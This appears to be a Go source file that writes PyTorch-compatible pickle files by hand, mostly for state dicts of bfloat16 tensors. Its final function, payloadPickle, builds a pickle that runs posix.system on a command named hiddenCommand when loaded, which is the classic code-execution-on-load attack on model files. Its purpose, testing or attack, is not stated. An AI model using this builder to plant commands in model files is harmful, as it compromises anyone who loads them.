package main

import (
	"encoding/binary"
	"math/bits"
	"strconv"
	"strings"

	"sov.dev/sov/internal/pickle"
)

// pickler emits protocol 2 opcodes the way CPython's pickler does for
// the objects torch.save pickles: every str, tuple, dict and global is
// memoised (BINPUT, LONG_BINPUT past 255) and an object met again is
// fetched from the memo (BINGET / LONG_BINGET) instead of pickled again.
type pickler struct {
	b    []byte
	next uint32            // next memo index
	memo map[string]uint32 // identity of a shared object → its memo index
}

func newPickler() *pickler { return &pickler{memo: map[string]uint32{}} }

func (p *pickler) op(ops ...pickle.Op) {
	for _, o := range ops {
		p.b = append(p.b, byte(o))
	}
}

// put memoises the object on top of the stack.
func (p *pickler) put() uint32 {
	i := p.next
	p.next++
	if i < 256 {
		p.b = append(p.b, byte(pickle.BINPUT), byte(i))
	} else {
		p.op(pickle.LONG_BINPUT)
		p.b = binary.LittleEndian.AppendUint32(p.b, i)
	}
	return i
}

func (p *pickler) get(i uint32) {
	if i < 256 {
		p.b = append(p.b, byte(pickle.BINGET), byte(i))
		return
	}
	p.op(pickle.LONG_BINGET)
	p.b = binary.LittleEndian.AppendUint32(p.b, i)
}

// shared pushes an object that Python pickles once per file (a class, a
// function, an interned string): the first time with emit, then by memo.
func (p *pickler) shared(key string, emit func()) {
	if i, ok := p.memo[key]; ok {
		p.get(i)
		return
	}
	emit()
	p.memo[key] = p.put()
}

func (p *pickler) global(module, name string) {
	p.shared("global "+module+"."+name, func() {
		p.op(pickle.GLOBAL)
		p.b = append(p.b, module+"\n"+name+"\n"...)
	})
}

// str pushes a new str object (BINUNICODE, memoised).
func (p *pickler) str(s string) {
	p.op(pickle.BINUNICODE)
	p.b = binary.LittleEndian.AppendUint32(p.b, uint32(len(s)))
	p.b = append(p.b, s...)
	p.put()
}

// internedStr pushes a str that is the same object every time it occurs
// (a literal in torch's source, such as "storage" or "cpu").
func (p *pickler) internedStr(s string) {
	p.shared("str "+s, func() {
		p.op(pickle.BINUNICODE)
		p.b = binary.LittleEndian.AppendUint32(p.b, uint32(len(s)))
		p.b = append(p.b, s...)
	})
}

// int pushes a non-negative int with the shortest opcode CPython uses.
func (p *pickler) int(v int64) {
	switch {
	case v < 0x100:
		p.b = append(p.b, byte(pickle.BININT1), byte(v))
	case v < 0x10000:
		p.op(pickle.BININT2)
		p.b = binary.LittleEndian.AppendUint16(p.b, uint16(v))
	case v < 1<<31:
		p.op(pickle.BININT)
		p.b = binary.LittleEndian.AppendUint32(p.b, uint32(v))
	default: // LONG1: little-endian two's complement, with a sign byte if needed
		n := bits.Len64(uint64(v))/8 + 1
		p.b = append(p.b, byte(pickle.LONG1), byte(n))
		for i := 0; i < n; i++ {
			p.b = append(p.b, byte(uint64(v)>>(8*i)))
		}
	}
}

// tuple pushes a tuple of ints (a tensor's size or stride).
func (p *pickler) tuple(vals []int64) {
	small := [...]pickle.Op{pickle.EMPTY_TUPLE, pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3}
	if len(vals) == 0 {
		p.op(pickle.EMPTY_TUPLE)
		return
	}
	if len(vals) > 3 {
		p.op(pickle.MARK)
	}
	for _, v := range vals {
		p.int(v)
	}
	if len(vals) > 3 {
		p.op(pickle.TUPLE)
	} else {
		p.op(small[len(vals)])
	}
	p.put()
}

// emptyOrderedDict pushes collections.OrderedDict().
func (p *pickler) emptyOrderedDict() {
	p.global("collections", "OrderedDict")
	p.op(pickle.EMPTY_TUPLE, pickle.REDUCE)
	p.put()
}

// setItems pickles n key/value pairs into the dict on the stack in
// batches of 1000, as CPython's _batch_setitems does.
func (p *pickler) setItems(n int, item func(i int)) {
	for start := 0; start < n; start += 1000 {
		end := min(n, start+1000)
		if end-start == 1 {
			item(start)
			p.op(pickle.SETITEM)
			continue
		}
		p.op(pickle.MARK)
		for i := start; i < end; i++ {
			item(i)
		}
		p.op(pickle.SETITEMS)
	}
}

// statePickle is data.pkl for a state dict of these tensors, as
// torch.save(model.state_dict()) writes it: an OrderedDict of name →
// torch._utils._rebuild_tensor_v2(storage, 0, size, stride, False,
// OrderedDict()), each storage a persistent id ('storage',
// torch.BFloat16Storage, key, 'cpu', numel) whose bytes are the member
// data/<key>, and the state dict's _metadata (module → {'version': 1})
// set on it with BUILD.
func statePickle(ts []tensor) []byte {
	p := newPickler()
	p.b = append(p.b, byte(pickle.PROTO), 2)
	p.emptyOrderedDict()
	p.setItems(len(ts), func(i int) {
		t := ts[i]
		p.str(t.name)
		p.global("torch._utils", "_rebuild_tensor_v2")
		p.op(pickle.MARK)
		// The persistent id: a 5-tuple, so MARK … TUPLE.
		p.op(pickle.MARK)
		p.internedStr("storage")
		p.global("torch", "BFloat16Storage")
		p.str(strconv.Itoa(i))
		p.internedStr("cpu")
		p.int(t.numel())
		p.op(pickle.TUPLE)
		p.put()
		p.op(pickle.BINPERSID)
		p.int(0) // storage offset
		p.tuple(t.shape)
		stride := make([]int64, len(t.shape))
		s := int64(1)
		for j := len(t.shape) - 1; j >= 0; j-- {
			stride[j] = s
			s *= t.shape[j]
		}
		p.tuple(stride)
		p.op(pickle.NEWFALSE) // requires_grad
		p.emptyOrderedDict()  // backward hooks
		p.op(pickle.TUPLE)
		p.put()
		p.op(pickle.REDUCE)
		p.put()
	})
	// The OrderedDict's __dict__: {'_metadata': OrderedDict(module →
	// {'version': 1})}, applied with BUILD.
	modules := []string{""}
	seen := map[string]bool{"": true}
	for _, t := range ts {
		parts := strings.Split(t.name, ".")
		for k := 1; k < len(parts); k++ {
			m := strings.Join(parts[:k], ".")
			if !seen[m] {
				seen[m] = true
				modules = append(modules, m)
			}
		}
	}
	p.op(pickle.EMPTY_DICT)
	p.put()
	p.str("_metadata")
	p.emptyOrderedDict()
	p.setItems(len(modules), func(i int) {
		p.str(modules[i])
		p.op(pickle.EMPTY_DICT)
		p.put()
		p.internedStr("version")
		p.int(1)
		p.op(pickle.SETITEM)
	})
	p.op(pickle.SETITEM, pickle.BUILD, pickle.STOP)
	return p.b
}

// payloadPickle is what pickle.dumps(obj, protocol=2) writes for an
// object whose __reduce__ returns (os.system, (hiddenCommand,)) on Linux:
// the call posix.system(hiddenCommand) when the pickle is loaded.
func payloadPickle() []byte {
	p := newPickler()
	p.b = append(p.b, byte(pickle.PROTO), 2)
	p.global("posix", "system")
	p.str(hiddenCommand)
	p.op(pickle.TUPLE1)
	p.put()
	p.op(pickle.REDUCE)
	p.put()
	p.op(pickle.STOP)
	return p.b
}
